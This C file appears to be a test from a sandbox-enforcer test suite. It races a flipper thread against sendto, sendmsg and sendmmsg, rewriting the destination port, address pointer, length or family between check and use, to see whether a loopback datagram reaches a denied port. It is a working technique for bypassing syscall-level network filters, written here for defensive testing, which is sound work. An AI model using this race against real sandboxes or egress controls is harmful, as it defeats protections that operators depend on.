/* The address of a datagram is rewritten between the check and the use. The sink notices what reaches the denied port.
 *
 * sendmsg(2) has three levels to flip behind an enforcer that CONTINUEs, or that reads twice: the address, the pointer to it
 * in msghdr, and its length; sendmmsg(2) has them for each of its messages.
 *
 *   net-send-race MODE ALLOWED_PORT DENIED_PORT MARKER ROUNDS [SECONDS]
 * sendto, sendmsg   the port's bytes        pointer  msg_name         second  the port of sendmmsg's second message
 * family            AF_INET becomes AF_UNSPEC, and the port changes with it
 * length            msg_namelen, 0 and 16, on a socket that is connected to the allowed port */
#include "attack.h"
#include <arpa/inet.h>
#include <pthread.h>
#include <sys/socket.h>

static const char *mode;
static struct sockaddr_in first, second;
static struct mmsghdr message[2];
static uint16_t good, bad;
static _Atomic int started, done;
static int is(const char *m) { return !strcmp(mode, m); }

static void put(int wrong) {
    if (is("pointer")) *(void *volatile *)&message[0].msg_hdr.msg_name = wrong ? &second : &first;
    else if (is("length")) *(volatile socklen_t *)&message[0].msg_hdr.msg_namelen = wrong ? sizeof second : 0;
    else if (is("second")) *(volatile uint16_t *)&second.sin_port = wrong ? bad : good;
    else if (is("family")) *(volatile uint32_t *)(void *)&first = wrong ? (uint32_t)bad << 16 | AF_UNSPEC : (uint32_t)good << 16 | AF_INET;
    else *(volatile uint16_t *)&first.sin_port = wrong ? bad : good;
}
static void *flipper(void *unused) {
    (void)unused;
    for (unsigned n = 1; !done; n = n * 1103515245 + 12345) {
        put(1);
        started = 1;
        spin_ns(n >> 8 & 2047);
        put(0);
        spin_ns(n >> 12 & 4095);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 6) skip("usage: MODE ALLOWED_PORT DENIED_PORT MARKER ROUNDS [SECONDS]");
    mode = argv[1], good = htons((uint16_t)atoi(argv[2])), bad = htons((uint16_t)atoi(argv[3])), attack_marker = argv[4];
    int rounds = atoi(argv[5]), seconds = argc > 6 ? atoi(argv[6]) : 2, sent = 0, refused = 0, round = 0;
    bound((unsigned)seconds + 2);
    int64_t start = now_ns(), until = start + seconds * 1000000000LL;
    first = second = (struct sockaddr_in){ .sin_family = AF_INET, .sin_port = good, .sin_addr = { htonl(INADDR_LOOPBACK) } };
    if (is("pointer") || is("length")) second.sin_port = bad;
    struct iovec data = { "x", 1 };
    for (int i = 0; i < 2; i++) message[i].msg_hdr = (struct msghdr){ .msg_name = i ? &second : &first, .msg_namelen = sizeof first, .msg_iov = &data, .msg_iovlen = 1 };
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (is("length")) {
        if (connect(fd, (void *)&first, sizeof first)) held("connecting to the allowed port: %s", strerror(errno));
        message[0].msg_hdr.msg_name = &second, message[0].msg_hdr.msg_namelen = 0;
    }
    pthread_t thread;
    pthread_create(&thread, NULL, flipper, NULL);
    while (!started) {}
    for (; goes_on(round, rounds, start, until) && (round % 64 || !marker_exists()); round++) {
        spin_ns(round * 37 % 3000); /* out of step with the flipper */
        ssize_t n = is("sendto") || is("family") ? sendto(fd, "x", 1, 0, (void *)&first, sizeof first) : is("second") ? sendmmsg(fd, message, 2, 0) : sendmsg(fd, &message[0].msg_hdr, 0);
        if (n < 0) refused++; else sent++;
    }
    done = 1;
    if (marker_appears(300)) escaped("%s: a datagram reached the denied port within %d rounds", mode, round);
    held("%s: %d rounds, sent %d, refused %d%s", mode, round, sent, refused, sent ? "" : " (vacuous: nothing was ever sent)");
}
